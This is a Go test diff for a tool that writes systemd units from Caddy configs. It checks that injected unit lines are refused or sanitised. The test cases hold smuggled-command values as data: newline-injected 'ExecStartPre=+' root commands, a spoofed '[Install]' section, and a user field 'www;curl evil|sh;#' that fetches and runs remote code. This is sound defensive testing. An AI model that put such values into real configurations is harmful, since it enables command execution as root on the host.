@@ -1,6 +1,7 @@
 package hearth
 
 import (
+	"io"
 	"os"
 	"path/filepath"
 	"strings"
@@ -149,24 +150,30 @@ func TestUnitStopTimeout(t *testing.T) {
 // are. A config may be the work of an account other than the operator's
 // (an app's, for a config kept in its project): a name that starts a line
 // of the unit's (ExecStartPre=+, run as root outside the sandbox) or an
-// account that ends a command is refused, saying what to write.
+// account that ends a command is refused by `systemd`, saying what to
+// write; `ports`, which prints neither, takes the config. A process
+// upstream named after its program (which Caddy runs whatever its name)
+// is shown in the unit with its other characters as '_'.
 func TestDeploymentRefusesWhatItCannotPrint(t *testing.T) {
 	wsgi := func(fields string) string {
 		return `{"apps": {"http": {"servers": {"s": {"listen": [":8080"], "routes": [
 			{"handle": [{"handler": "wsgi", "app": "shop.wsgi:application", "dir": "/srv/shop"` + fields + `}]}]}}}}}`
 	}
+	process := func(fields string) string {
+		return `{"apps": {"http": {"servers": {"s": {"listen": [":8080"], "routes": [
+			{"handle": [{"handler": "reverse_proxy", "dynamic_upstreams": {"source": "process", "command": ["/opt/x\n[Install]\nWantedBy=evil"], "dir": "/srv/node"` + fields + `}}]}]}}}}}`
+	}
 	for _, tc := range []struct{ name, json, want string }{
 		{"a name with a unit line", wsgi(`, "name": "x\n[Service]\nExecStartPre=+/bin/sh -c 'id>/tmp/p'\n#"`), "app name"},
 		{"a name from the module", strings.Replace(wsgi(""), "shop.wsgi:application", `sh\nExecStartPre=+/bin/id\n#op.wsgi:application`, 1),
 			"give the app one with `name <name>`"},
-		{"a process upstream's program", `{"apps": {"http": {"servers": {"s": {"listen": [":8080"], "routes": [
-			{"handle": [{"handler": "reverse_proxy", "dynamic_upstreams": {"source": "process", "command": ["/opt/x\n[Install]"], "dir": "/srv/node"}}]}]}}}}}`,
-			"give the app one with `name <name>`"},
+		{"a process upstream's own name", process(`, "name": "n\nExecStartPre=+/bin/id"`), "process name"},
 		{"an app's user", wsgi(`, "name": "shop", "user": "www;curl evil|sh;#"`), `app shop: user "www;curl evil|sh;#"`},
 		{"a service's user", `{"apps": {"hearth": {"services": [{"name": "redis", "command": ["redis-server"], "dir": "/srv/redis", "user": "r\nx"}]}}}`,
 			`service "redis": user "r\nx"`},
 		{"a job's user", `{"apps": {"hearth": {"jobs": [{"name": "clean", "command": ["true"], "schedule": "@daily", "user": "-o"}]}}}`,
 			`job "clean": user "-o"`},
+		{"a process upstream named after its program", process(""), ""},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			config := filepath.Join(t.TempDir(), "caddy.json")
@@ -174,9 +181,21 @@ func TestDeploymentRefusesWhatItCannotPrint(t *testing.T) {
 				t.Fatal(err)
 			}
 			d, err := loadDeployment(config, "")
+			if err != nil {
+				t.Fatalf("loadDeployment (as ports reads it): %v", err)
+			}
+			if err := printPorts(io.Discard, d, "192.168.1.5", nil); err != nil {
+				t.Errorf("ports: %v", err)
+			}
+			var out strings.Builder
+			err = writeUnit(&out, d, unitOptions{config: config, user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy", binary: "/usr/bin/caddy", envFile: "/etc/caddy/env"})
+			if tc.want == "" {
+				if err != nil || strings.Count(out.String(), "\n[Install]\n") != 1 || !strings.Contains(out.String(), "Description=Caddy with Hearth (x__Install__WantedBy_evil)\n") {
+					t.Errorf("writeUnit: %v; the unit:\n%s", err, out.String())
+				}
+				return
+			}
 			if err == nil {
-				var out strings.Builder
-				_ = writeUnit(&out, d, unitOptions{config: config, user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy", binary: "/usr/bin/caddy", envFile: "/etc/caddy/env"})
 				t.Fatalf("accepted; the unit:\n%s", out.String())
 			}
 			if !strings.Contains(err.Error(), tc.want) {
